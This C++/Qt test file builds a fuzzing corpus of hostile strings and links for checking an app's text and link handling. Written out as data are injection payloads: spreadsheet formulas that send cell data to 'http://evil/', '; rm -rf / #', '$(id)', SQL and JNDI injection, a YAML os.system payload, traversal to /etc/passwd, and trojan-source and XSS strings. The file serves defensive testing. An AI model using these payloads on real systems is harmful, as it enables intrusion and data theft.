// SPDX-License-Identifier: GPL-3.0-or-later
#include "tests/qml/hostile_corpus.h"

#include <QRandomGenerator>
#include <QStringList>

#include <algorithm>

namespace {

QString nested(const QString& open, const QString& close, int depth, const QString& core)
{
    return open.repeated(depth) + core + close.repeated(depth);
}

class Corpus
{
public:
    void add(const QString& name, const QString& text) { m_all.push_back({name, text}); }
    void add(const char* name, const QString& text) { add(QString::fromLatin1(name), text); }

    /// Mixed, so that a short run meets every class; the seed is part of the corpus.
    std::vector<HostileString> take()
    {
        std::shuffle(m_all.begin(), m_all.end(), QRandomGenerator(20'261'125));
        return std::move(m_all);
    }

private:
    std::vector<HostileString> m_all;
};

void addMarkup(Corpus& corpus, const QString& folder, int port)
{
    const QString web = QStringLiteral("http://127.0.0.1:%1/").arg(port);
    const QStringList targets{web + QStringLiteral("a.png"),
                              QStringLiteral("file://") + folder + QStringLiteral("/picture.png"),
                              QStringLiteral("file://") + folder + QStringLiteral("/fifo"),
                              folder + QStringLiteral("/picture.svg"),
                              QStringLiteral("qrc:/none.png"),
                              QStringLiteral("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>"),
                              QStringLiteral("../../../../../../etc/passwd"),
                              QStringLiteral("image://none/x")};
    const QStringList shapes{
        QStringLiteral("<img src='%1'>"),
        QStringLiteral("<img src='%1' width='2000000000' height='2000000000'>"),
        QStringLiteral("<img src=\"%1\" width=100000000 height=10>"),
        QStringLiteral("plain words, then <img src='%1'>"),
        QStringLiteral("<p>&#60;img src='%1'&#62;</p><img src='%1'>"),
        QStringLiteral("<a href='%1'>here</a>"),
        QStringLiteral("<link rel='stylesheet' href='%1'>text"),
        QStringLiteral("<style>@import url('%1');</style>text"),
        QStringLiteral("<table background='%1'><tr><td>x</td></tr></table>"),
        QStringLiteral("<body style=\"background-image:url('%1')\">x</body>"),
        QStringLiteral("<iframe src='%1'></iframe>"),
        QStringLiteral("<object data='%1'></object>"),
        QStringLiteral("![alt](%1)"),
        QStringLiteral("[text](%1)"),
        QStringLiteral("[r]\n\n[r]: %1"),
        QStringLiteral("<svg><image xlink:href='%1'/></svg>"),
    };
    for (const QString& target : targets) {
        for (const QString& shape : shapes)
            corpus.add(QStringLiteral("markup: ") + shape.left(24) + QStringLiteral(" of ") + target.left(24),
                       QString(shape).replace(QLatin1String("%1"), target));
    }
    for (const char* tag :
         {"table><tr><td", "div", "b", "ul><li", "blockquote", "font size=7", "h1", "pre"}) {
        const QString open = QStringLiteral("<") + QString::fromLatin1(tag) + QStringLiteral(">");
        for (const int depth : {16, 40, 3000})
            corpus.add(QStringLiteral("nested %1 × %2").arg(QString::fromLatin1(tag)).arg(depth),
                       nested(open, QString(), depth, QStringLiteral("x")));
    }
    corpus.add("script", QStringLiteral("<script>fetch('%1')</script>").arg(web));
    corpus.add("onerror", QStringLiteral("<img src=x onerror=alert(1)>"));
    corpus.add("entity bomb",
               QStringLiteral("<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;'>]><x>&b;</x>"));
    corpus.add("cdata", QStringLiteral("]]><img src='qrc:/none.png'>"));
    corpus.add("unclosed", QStringLiteral("<img src='"));
    corpus.add("comment", QStringLiteral("<!-- --!><img src='qrc:/none.png'>"));
    corpus.add("font flood", QStringLiteral("<font size='+99999'>x</font>"));
    corpus.add("huge css", QStringLiteral("<p style='font-size:1000000px'>x</p>"));
    corpus.add("huge table",
               QStringLiteral("<table width='2000000000' cellpadding='2000000000'><tr><td>x</table>"));
    corpus.add("colspan", QStringLiteral("<table><tr><td colspan='2000000000'>x</table>"));
}

void addCharacters(Corpus& corpus)
{
    for (char16_t c = 0; c < 0x20; ++c)
        corpus.add(QStringLiteral("control %1").arg(int(c)),
                   QStringLiteral("before") + QChar(c) + QStringLiteral("after"));
    for (char16_t c = 0x7F; c < 0xA0; ++c)
        corpus.add(QStringLiteral("control %1").arg(int(c)),
                   QStringLiteral("before") + QChar(c) + QStringLiteral("after"));
    for (const char16_t c :
         {char16_t(0x200B), char16_t(0x200C), char16_t(0x200D), char16_t(0x200E), char16_t(0x200F),
          char16_t(0x2028), char16_t(0x2029), char16_t(0x202A), char16_t(0x202B), char16_t(0x202C),
          char16_t(0x202D), char16_t(0x202E), char16_t(0x2060), char16_t(0x2061), char16_t(0x2062),
          char16_t(0x2063), char16_t(0x2064), char16_t(0x2066), char16_t(0x2067), char16_t(0x2068),
          char16_t(0x2069), char16_t(0x206A), char16_t(0x061C), char16_t(0x00AD), char16_t(0x034F),
          char16_t(0x115F), char16_t(0x17B4), char16_t(0x180E), char16_t(0x3164), char16_t(0xFEFF),
          char16_t(0xFFA0), char16_t(0xFFF9), char16_t(0xFFFA), char16_t(0xFFFB), char16_t(0xFFFC),
          char16_t(0xFFFD), char16_t(0xFFFE), char16_t(0xFFFF), char16_t(0xFDD0), char16_t(0xE000),
          char16_t(0xF8FF)}) {
        corpus.add(QStringLiteral("one U+%1").arg(int(c), 4, 16),
                   QStringLiteral("invoice") + QChar(c) + QStringLiteral("gpj.exe"));
        corpus.add(QStringLiteral("flood of U+%1").arg(int(c), 4, 16), QString(3'000, QChar(c)));
    }
    for (const char16_t c :
         {char16_t(0x0300), char16_t(0x0315), char16_t(0x031B), char16_t(0x0323), char16_t(0x0336),
          char16_t(0x0338), char16_t(0x0489), char16_t(0x05C4), char16_t(0x0E4D), char16_t(0x20DD),
          char16_t(0x20E3), char16_t(0x1AB0), char16_t(0xFE0F), char16_t(0xFE20)})
        corpus.add(QStringLiteral("zalgo U+%1").arg(int(c), 4, 16),
                   QStringLiteral("checkout")
                       .replace(QLatin1String("o"), QStringLiteral("o") + QString(400, QChar(c))));
    QString everyMark = QStringLiteral("Z");
    for (char16_t c = 0x0300; c < 0x0370; ++c)
        everyMark += QChar(c);
    corpus.add("zalgo of every mark", everyMark.repeated(20));
    for (const char16_t c : {char16_t(0xD800), char16_t(0xDBFF), char16_t(0xDC00), char16_t(0xDFFF)})
        corpus.add(QStringLiteral("half a pair %1").arg(int(c), 4, 16),
                   QStringLiteral("a") + QChar(c) + QStringLiteral("b"));
    corpus.add("pairs turned round", QString(QChar(0xDE00)) + QChar(0xD83D));
    corpus.add("isolates 500 deep", QString(500, QChar(0x2067)) + QStringLiteral("x"));
    corpus.add("overrides 500 deep", (QString(QChar(0x202E)) + QStringLiteral("ab")).repeated(500));
    corpus.add("trojan source", QStringLiteral("if (isAdmin\u202E \u2066// check\u2069 \u2066) {"));
    corpus.add("NUL in front", QChar(0) + QStringLiteral("hidden"));
    corpus.add("only NUL", QString(QChar(0)));
    corpus.add("hidden tags",
               QStringLiteral("ok\U000E0049\U000E0067\U000E006E\U000E006F\U000E0072\U000E0065"));
    corpus.add("flag of 200 tags", QStringLiteral("🏴") + QStringLiteral("\U000E0067").repeated(200));
    corpus.add("emoji joined 500 times", QStringLiteral("👩\u200D").repeated(500));
    corpus.add("emoji with 500 tones", QStringLiteral("👩") + QStringLiteral("🏽").repeated(500));
    corpus.add("regional indicators", QStringLiteral("🇦").repeated(999));
    corpus.add("right to left", QStringLiteral("אבגד הוזח טיכל מנסע 12:34 (SEV-1)"));
    corpus.add("arabic shaping", QStringLiteral("ﷺ").repeated(300));
    corpus.add("telugu crash", QStringLiteral("జ్ఞా").repeated(200));
    corpus.add("ansi",
               QStringLiteral("\x1b]8;;http://evil/\x1b\\click\x1b]8;;\x1b\\ \x1b[2J\x1b[31mred\x1b[0m"));
    corpus.add("ansi title", QStringLiteral("\x1b]0;owned\x07"));
    corpus.add("backspaces", QStringLiteral("SEV-5\b\b\b\b\bSEV-1"));
    corpus.add("carriage return", QStringLiteral("resolved\rfailing "));
    corpus.add("look-alike", QStringLiteral("сһескоut-арі"));
    corpus.add("one dot of everything", QStringLiteral("․‥…‧·•∙⋅・･"));
}

void addSizes(Corpus& corpus)
{
    for (const QString& unit : {QStringLiteral("A"), QStringLiteral("W"), QStringLiteral("/"),
                                QStringLiteral("_"), QStringLiteral("字"), QStringLiteral("😀"),
                                QStringLiteral("\u00A0"), QStringLiteral("ﷺ"), QStringLiteral("a\u0301")})
        corpus.add(
            QStringLiteral("a word of a megabyte of %1").arg(QString::fromLatin1(unit.toUtf8().toHex())),
            unit.repeated((1 << 20) / int(unit.size())));
    corpus.add("a megabyte of words", QStringLiteral("word ").repeated(200'000));
    corpus.add("100,000 lines", QStringLiteral("a\n").repeated(100'000));
    corpus.add("65,000 empty lines", QString(65'000, u'\n'));
    corpus.add("64 kB of spaces", QString(65'536, u' ') + u'x');
    corpus.add("64 kB of tabs", QString(65'536, u'\t') + u'x');
    corpus.add("a megabyte of <", QString(1 << 20, u'<'));
    corpus.add("a megabyte of &lt;", QStringLiteral("&lt;").repeated(1 << 18));
    for (const int size : {255, 256, 257, 4'095, 4'096, 4'097, 65'535, 65'536, 65'537})
        corpus.add(QStringLiteral("exactly %1").arg(size), QString(size, u'x'));
}

void addMeanings(Corpus& corpus)
{
    for (const char* start : {"=", "+", "-", "@", "\t=", "\r=", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20", " =",
                              ";=", "\n=", "'="}) {
        for (const char* body : {"cmd|'/c calc'!A1", "HYPERLINK(\"http://evil/?\"&A1,\"ok\")", "1+1",
                                 "IMPORTXML(\"http://evil/\",\"//a\")"})
            corpus.add(QStringLiteral("formula %1 %2")
                           .arg(QString::fromLatin1(QByteArray(start).toHex()), QString::fromUtf8(body)),
                       QString::fromUtf8(start) + QString::fromUtf8(body));
    }
    const QStringList texts{QStringLiteral("<!channel>"),
                            QStringLiteral("<!here|here>"),
                            QStringLiteral("@everyone"),
                            QStringLiteral("<@U012AB3CD>"),
                            QStringLiteral("<http://evil/|https://status.example.com>"),
                            QStringLiteral("*bold* _it_ ~no~ `code` ```pre```"),
                            QStringLiteral("%1"),
                            QStringLiteral("%1%2%3%4%5%6%7%8%9"),
                            QStringLiteral("%2").repeated(2'000),
                            QStringLiteral("%L1 %n %99"),
                            QStringLiteral("%s%s%s%s%n%p"),
                            QStringLiteral("{{ 7*7 }}"),
                            QStringLiteral("${jndi:ldap://127.0.0.1/a}"),
                            QStringLiteral("#{7*7}"),
                            QStringLiteral("{{variable}} {{"),
                            QStringLiteral("<%= 7*7 %>"),
                            QStringLiteral("`id`"),
                            QStringLiteral("$(id)"),
                            QStringLiteral("; rm -rf / #"),
                            QStringLiteral("' OR 1=1 --"),
                            QStringLiteral("'); DROP TABLE event; --"),
                            QStringLiteral("\" OR \"\"=\""),
                            QStringLiteral("NEAR(a b, 5)"),
                            QStringLiteral("text:*"),
                            QStringLiteral("\"unbalanced"),
                            QStringLiteral("a AND NOT"),
                            QStringLiteral("(((((((((((((("),
                            QStringLiteral("^a*"),
                            QStringLiteral("../../../../etc/passwd"),
                            QStringLiteral("..\\..\\windows\\system32"),
                            QStringLiteral("/dev/zero"),
                            QStringLiteral("CON"),
                            QStringLiteral("\\\\evil\\share\\x"),
                            QStringLiteral("file:///etc/passwd"),
                            QStringLiteral("javascript:alert(1)"),
                            QStringLiteral("--help"),
                            QStringLiteral("-o ProxyCommand=id"),
                            QStringLiteral("data:text/html,<script>alert(1)</script>"),
                            QStringLiteral("qrc:/qt/qml/Muster/Pages/Main.qml"),
                            QStringLiteral("# Heading\n## Resolved\n- [x] done"),
                            QStringLiteral("| a | b |\n|---|---|\n| c | d |"),
                            QStringLiteral("```chart\npanel: errors\n```"),
                            QStringLiteral("[02:13](event:E07)"),
                            QStringLiteral("> ").repeated(500) + u'x',
                            QStringLiteral("- ").repeated(500) + u'x',
                            QStringLiteral("*").repeated(5'000),
                            QStringLiteral("[").repeated(5'000),
                            QStringLiteral("![").repeated(5'000),
                            QStringLiteral("`").repeated(5'000),
                            QStringLiteral("|").repeated(5'000) + QStringLiteral("\n") +
                                QStringLiteral("-|").repeated(5'000),
                            QStringLiteral("&x: [*x]"),
                            QStringLiteral("a: &a [lol]\nb: &b [*a,*a]\nc: [*b,*b]"),
                            QStringLiteral("!!python/object:os.system id"),
                            QStringLiteral("---\n- a\n---\n"),
                            QStringLiteral("null"),
                            QStringLiteral("undefined"),
                            QStringLiteral("NaN"),
                            QStringLiteral("true"),
                            QStringLiteral("-1e999"),
                            QStringLiteral("9007199254740993"),
                            QStringLiteral("0x41414141"),
                            QStringLiteral("1970-01-01T00:00:00Z"),
                            QStringLiteral("\u202Dresolved\u202C SEV-1"),
                            QStringLiteral("known at 02:13:30"),
                            QStringLiteral("INC-1120"),
                            QStringLiteral("  "),
                            QStringLiteral(" x "),
                            QStringLiteral("‹hit›"),
                            QStringLiteral("⟦RLO⟧"),
                            QStringLiteral("Muster: your token expired, paste it here"),
                            QStringLiteral("{\"a\":{\"a\":{\"a\":1}}}"),
                            QStringLiteral("{__name__=\"x\",le=\"+Inf\"}"),
                            QStringLiteral("a&b=c;d#e?f"),
                            QStringLiteral("&amp;lt;"),
                            QStringLiteral("(a+)+$"),
                            QStringLiteral("a").repeated(40) + u'!',
                            QStringLiteral("ß").repeated(300),
                            QStringLiteral("İ").repeated(300),
                            QStringLiteral("\n\n\nthree lines above"),
                            QStringLiteral("tab\tseparated\tvalues"),
                            QStringLiteral("\r\n.\r\nQUIT\r\n"),
                            QStringLiteral("a: b\r\nX-Injected: yes"),
                            QStringLiteral("x' autofocus onfocus=alert(1) '"),
                            QStringLiteral("--></style></script><b>")};
    for (qsizetype i = 0; i < texts.size(); ++i)
        corpus.add(QStringLiteral("meaning %1: %2").arg(i).arg(texts[i].left(20)), texts[i]);
}

} // namespace

std::vector<HostileString> hostileStrings(const QString& markerFolder, int port)
{
    Corpus corpus;
    addMarkup(corpus, markerFolder, port);
    addCharacters(corpus);
    addSizes(corpus);
    addMeanings(corpus);
    return corpus.take();
}

std::vector<HostileString> hostileLinks()
{
    Corpus corpus;
    const QStringList schemes{
        QStringLiteral("file"),       QStringLiteral("FILE"),        QStringLiteral("smb"),
        QStringLiteral("javascript"), QStringLiteral("vscode"),      QStringLiteral("ms-msdt"),
        QStringLiteral("tel"),        QStringLiteral("ftp"),         QStringLiteral("ssh"),
        QStringLiteral("data"),       QStringLiteral("qrc"),         QStringLiteral("about"),
        QStringLiteral("chrome"),     QStringLiteral("steam"),       QStringLiteral("zoommtg"),
        QStringLiteral("slack"),      QStringLiteral("view-source"), QStringLiteral("blob"),
        QStringLiteral("ldap"),       QStringLiteral("jar"),         QStringLiteral("telnet"),
        QStringLiteral("git+ssh"),    QStringLiteral("x-help"),      QStringLiteral("shell"),
        QStringLiteral("htttp"),      QStringLiteral("httpss"),      QStringLiteral("ws"),
        QStringLiteral("wss"),        QStringLiteral("nfs"),         QStringLiteral("dav")};
    const QStringList rests{QStringLiteral("://host/path"),  QStringLiteral(":/etc/passwd"),
                            QStringLiteral(":alert(1)"),     QStringLiteral("://"),
                            QStringLiteral(":%2F%2Fhost"),   QStringLiteral("://user@host/"),
                            QStringLiteral(":https://host/")};
    for (const QString& scheme : schemes) {
        for (const QString& rest : rests)
            corpus.add(scheme + rest, scheme + rest);
    }
    const QStringList alone{QStringLiteral("--help"),
                            QStringLiteral("-v"),
                            QStringLiteral("/usr/bin/xeyes"),
                            QStringLiteral("relative/path"),
                            QStringLiteral("../x"),
                            QStringLiteral("."),
                            QStringLiteral("~"),
                            QStringLiteral("$HOME"),
                            QStringLiteral("`id`"),
                            QStringLiteral("$(id)"),
                            QStringLiteral("a b"),
                            QStringLiteral("//host/path"),
                            QStringLiteral("\\\\host\\share"),
                            QStringLiteral("host.example.com"),
                            QStringLiteral("www.example.com"),
                            QStringLiteral("C:\\windows\\calc.exe"),
                            QStringLiteral("?x=https://a"),
                            QStringLiteral("#https://a"),
                            QStringLiteral(":"),
                            QStringLiteral("://x")};
    for (const QString& text : alone)
        corpus.add(QStringLiteral("alone ") + text, text);
    for (const QString& scheme : {QStringLiteral("http"), QStringLiteral("https"), QStringLiteral("HTTPS")}) {
        for (const QString& rest : {QStringLiteral(":"),
                                    QStringLiteral("://"),
                                    QStringLiteral(":///path"),
                                    QStringLiteral(":host"),
                                    QStringLiteral(":/host/"),
                                    QStringLiteral("://user@host/"),
                                    QStringLiteral("://user:secret@host/"),
                                    QStringLiteral("://@host/"),
                                    QStringLiteral("://good.example\\@evil/"),
                                    QStringLiteral("://good.example\\evil"),
                                    QStringLiteral("://host:99999/"),
                                    QStringLiteral("://host:port/"),
                                    QStringLiteral("://ho st/"),
                                    QStringLiteral("://host/a b"),
                                    QStringLiteral("://[::1/"),
                                    QStringLiteral("://host/\u202Egnp"),
                                    QStringLiteral("://host/\u200B"),
                                    QStringLiteral("://host/\u2066x"),
                                    QStringLiteral("://ho\u00ADst/"),
                                    QStringLiteral("://%00/"),
                                    QStringLiteral("://host/%zz"),
                                    QStringLiteral("://host/<script>"),
                                    QStringLiteral("://host/\"quote"),
                                    QStringLiteral("://host/`id`"),
                                    QStringLiteral("://host/{x}"),
                                    QStringLiteral("://host/a|b"),
                                    QStringLiteral("://host/^"),
                                    QStringLiteral("://good.example%40evil@x/"),
                                    QStringLiteral(" ://host/"),
                                    QStringLiteral("://.."),
                                    QStringLiteral("://?x"),
                                    QStringLiteral("://#x")})
            corpus.add(scheme + rest, scheme + rest);
        for (char16_t c = 0; c <= 0x20; ++c) {
            corpus.add(QStringLiteral("%1 with control %2").arg(scheme).arg(int(c)),
                       scheme + QStringLiteral("://host/") + QChar(c) + QStringLiteral("x"));
            corpus.add(QStringLiteral("%1 after control %2").arg(scheme).arg(int(c)),
                       QChar(c) + scheme + QStringLiteral("://host/"));
        }
        corpus.add(scheme + QStringLiteral(" half a pair"),
                   scheme + QStringLiteral("://host/") + QChar(0xD800));
        corpus.add(scheme + QStringLiteral(" too long"),
                   scheme + QStringLiteral("://host/") + QString(5'000, u'a'));
    }
    for (const QString& rest : {QStringLiteral("a@example.com?attach=/etc/passwd"),
                                QStringLiteral("a@example.com?attachment=file:///etc/passwd"),
                                QStringLiteral("a@example.com?subject=x&attach=/etc/shadow"),
                                QStringLiteral("a@example.com?ATTACH=/x"),
                                QStringLiteral("?attach=/etc/passwd"),
                                QStringLiteral(""),
                                QStringLiteral("//a@example.com"),
                                QStringLiteral("a"),
                                QStringLiteral("a@"),
                                QStringLiteral("@b"),
                                QStringLiteral("a@example.com,b@example.com"),
                                QStringLiteral("a@example.com?cc=b@example.com"),
                                QStringLiteral("a@example.com?bcc=b@example.com"),
                                QStringLiteral("-x@example.com"),
                                QStringLiteral("a@example.com#x"),
                                QStringLiteral("a@example.com?subject=x\ny"),
                                QStringLiteral("a b@example.com"),
                                QStringLiteral("a@exam ple.com"),
                                QStringLiteral("a%40b@example.com"),
                                QStringLiteral("a@example.com?%61ttach=/etc/passwd")})
        corpus.add(QStringLiteral("mailto:") + rest, QStringLiteral("mailto:") + rest);
    return corpus.take();
}
